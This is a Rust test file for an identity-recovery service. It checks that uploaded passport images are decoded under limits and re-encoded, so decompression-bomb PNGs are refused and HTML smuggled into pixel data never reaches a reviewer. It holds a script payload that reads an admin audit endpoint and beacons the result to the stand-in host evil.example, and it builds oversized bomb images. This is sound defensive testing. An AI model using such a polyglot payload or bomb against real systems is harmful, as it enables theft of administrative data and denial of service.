//! Identity images are decoded under limits and only a re-encoded copy is
//! kept and served: a decompression bomb is refused from its header, an
//! image whose decoding would need too much memory by the decoder's own
//! limit, a file that does not decode is refused, and bytes smuggled into
//! the pixel data (here a page of HTML) never reach the reviewer's browser.

mod common;

use std::io::Write;

use common::{assert_error, ok};
use serde_json::json;
use twostep_domain::Role;
use twostep_testkit::db::BOTH;
use twostep_testkit::recovery::{
    Case, Part, file_part, jpeg_image, open_case, png_chunk, right_answers, text_part, totp_owner,
};
use twostep_testkit::{Backend, TestServer};

/// A PNG whose scanlines (each with its filter byte) are `row(y)`, zlib
/// compressed at `level`; `colour`: 0 grey, 2 RGB, 6 RGBA; `depth` 8 or 16.
fn png(
    width: u32,
    height: u32,
    colour: u8,
    depth: u8,
    level: flate2::Compression,
    row: impl Fn(u32) -> Vec<u8>,
) -> Vec<u8> {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), level);
    for y in 0..height {
        z.write_all(&row(y)).unwrap();
    }
    let idat = z.finish().unwrap();
    let mut out = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[depth, colour, 0, 0, 0]);
    png_chunk(&mut out, b"IHDR", &ihdr);
    png_chunk(&mut out, b"IDAT", &idat);
    png_chunk(&mut out, b"IEND", &[]);
    out
}

const HTML: &[u8] = b"<html><body><script>fetch('/api/v1/admin/audit').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></body></html>";

/// 300 bytes of the HTML page, repeated.
fn html_row() -> Vec<u8> {
    HTML.iter().copied().cycle().take(300).collect()
}

async fn case_at_identity(s: &TestServer, email: &str) -> Case {
    let owner = totp_owner(s, email).await;
    let case = open_case(s, &owner.email).await;
    ok(&s.post(&case.path("items"), json!({"reset": ["authenticator"]}), Some(&case.token)).await, 200);
    ok(&s.post(&case.path("codes"), json!({}), Some(&case.token)).await, 202);
    ok(
        &s.post(&case.path("codes/verify"), json!({"email_code": s.code_to(email).await}), Some(&case.token)).await,
        200,
    );
    ok(&s.post(&case.path("answers"), json!({"answers": right_answers(s, &case).await}), Some(&case.token)).await, 200);
    case
}

fn passport(front: Vec<u8>) -> Vec<Part<'static>> {
    vec![
        text_part("country", "FR"),
        text_part("id_type", "passport"),
        file_part("front", "image/png", front),
        file_part("selfie", "image/jpeg", jpeg_image(400, 400, false)),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bombs_and_smuggled_bytes_never_reach_a_reviewer() {
    // 20000×20000 RGB of one colour: about 1 MB on the wire, 1.2 GB decoded.
    let bomb = png(20_000, 20_000, 2, 8, flate2::Compression::best(), |_| vec![0u8; 1 + 3 * 20_000]);
    assert!(bomb.len() < 2 * 1024 * 1024, "{} bytes", bomb.len());
    // Within the size limits, but 16-bit RGBA of 6000×6000 would take 288 MB
    // to decode: the decoder's allocation limit refuses it.
    let heavy = png(6_000, 6_000, 6, 16, flate2::Compression::best(), |_| vec![0u8; 1 + 8 * 6_000]);
    for backend in BOTH {
        run(backend, &bomb, &heavy).await;
    }
}

async fn run(backend: Backend, bomb: &[u8], heavy: &[u8]) {
    let s = TestServer::start(backend).await;
    let case = case_at_identity(&s, "hana@example.com").await;
    let up = |front: Vec<u8>| {
        let (s, path, token) = (&s, case.path("identity"), case.token.clone());
        async move { s.upload(&path, &token, &passport(front)).await }
    };

    let r = up(bomb.to_vec()).await;
    assert_error(&r, 400, "invalid_request");
    assert!(r.1["error"]["message"].as_str().unwrap().contains("20000×20000"), "{}", r.1);
    assert_error(&up(heavy.to_vec()).await, 400, "invalid_request");
    // Whole as a container, but the pixel data does not decode: HTML where
    // each scanline's filter byte should be, and a stream that is no zlib.
    let not_pixels = png(300, 300, 0, 8, flate2::Compression::none(), |_| {
        let mut row = html_row();
        row.push(b'>');
        row
    });
    let r = up(not_pixels).await;
    assert_error(&r, 400, "invalid_request");
    assert!(r.1["error"]["message"].as_str().unwrap().contains("damaged"), "{}", r.1);
    let mut garbage = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    let mut ihdr = 400u32.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&400u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
    png_chunk(&mut garbage, b"IHDR", &ihdr);
    png_chunk(&mut garbage, b"IDAT", HTML);
    png_chunk(&mut garbage, b"IEND", &[]);
    assert_error(&up(garbage).await, 400, "invalid_request");
    assert_eq!(s.app.store.case_documents(&case.id).await.unwrap().len(), 0, "nothing refused was kept");

    // A real 300×300 greyscale picture whose pixel values spell an HTML page,
    // stored uncompressed so the page sits in the file as text. It is a
    // picture, so it is taken; the copy kept holds the pixels, not the text.
    let polyglot = png(300, 300, 0, 8, flate2::Compression::none(), |_| {
        let mut row = vec![0u8];
        row.extend(html_row());
        row
    });
    assert!(polyglot.windows(8).any(|w| w == b"<script>"));
    let stored = ok(&up(polyglot).await, 201);
    let front = stored["documents"].as_array().unwrap().iter().find(|d| d["slot"] == "front").unwrap().clone();
    assert_eq!(
        (front["width"].as_i64(), front["height"].as_i64(), front["content_type"].as_str()),
        (Some(300), Some(300), Some("image/png"))
    );
    ok(&s.post(&case.path("submit"), json!({}), Some(&case.token)).await, 200);
    let reviewer = s.staff_with_authenticator("rev@example.com", Role::Reviewer).await.token;
    let url = format!("{}/api/v1/admin/recovery-cases/{}/documents/front", s.url, case.id);
    let served = s.client().get(url).bearer_auth(&reviewer).send().await.unwrap();
    assert_eq!(served.status(), 200);
    assert_eq!(served.headers()["content-type"], "image/png");
    let bytes = served.bytes().await.unwrap();
    assert!(bytes.starts_with(&[0x89, b'P', b'N', b'G']));
    assert!(!bytes.windows(7).any(|w| w.eq_ignore_ascii_case(b"<script")), "the HTML reached the reviewer");
    s.stop().await;
}
